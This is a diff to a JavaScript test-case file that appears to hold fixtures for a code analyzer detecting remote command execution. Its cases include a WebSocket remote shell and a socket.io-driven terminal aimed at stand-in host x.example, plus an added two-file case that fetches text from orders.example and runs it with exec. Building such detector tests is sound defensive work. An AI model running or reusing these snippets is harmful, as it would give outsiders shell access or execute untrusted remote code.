@@ -188,6 +188,16 @@ export default defineCases({
       code: "const { spawn } = require('child_process'), ws = new WebSocket('wss://x.example');\nlet shell;\nws.addEventListener('open', () => { shell = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh') });\nws.addEventListener('message', ({ data }) => shell?.stdin.write(data))",
     },
     {
+      name: 'steps that another file goes through',
+      manifest: { type: 'module' },
+      files: {
+        'index.js':
+          "import { exec } from 'node:child_process';\nimport { order } from './data.js';\nexec(await order());",
+        'data.js':
+          "const pipe = (value, ...steps) => { let next = value; for (const step of steps) next = step(next); return next };\nexport const order = () => pipe('https://orders.example', (url) => fetch(url).then((r) => r.text()));",
+      },
+    },
+    {
       name: 'a terminal that is typed into from afar',
       code: "const pty = require('node-pty'), io = require('socket.io-client')('https://x.example');\nconst shell = pty.spawn(process.env.SHELL || 'bash', [], {});\nshell.onData((text) => io.emit('text', text));\nio.on('text', (text) => shell.write(text))",
     },
@@ -261,6 +271,16 @@ export default defineCases({
     {
       name: 'the versions of a package that a service names',
       code: "const { execFileSync } = require('child_process');\nfetch('https://a.example/plugin').then((r) => r.json()).then(({ name }) => console.log(String(execFileSync('npm', ['view', name, 'versions', '--json']))))",
+    },
+    {
+      name: 'steps that another file gives to what goes through them',
+      manifest: { type: 'module' },
+      files: {
+        'index.js':
+          "import { spawn } from 'node:child_process';\nimport { pipe } from './data.js';\nconst tool = pipe(process.argv[2], (name) => name.trim());\nspawn(tool, []);",
+        'data.js':
+          "export const pipe = (value, ...steps) => { let next = value; for (const step of steps) next = step(next); return next };\nexport const prices = () => pipe('https://prices.example', (url) => fetch(url), (answer) => answer.text());",
+      },
     },
     {
       name: 'a remote list that is printed, a local command that runs',
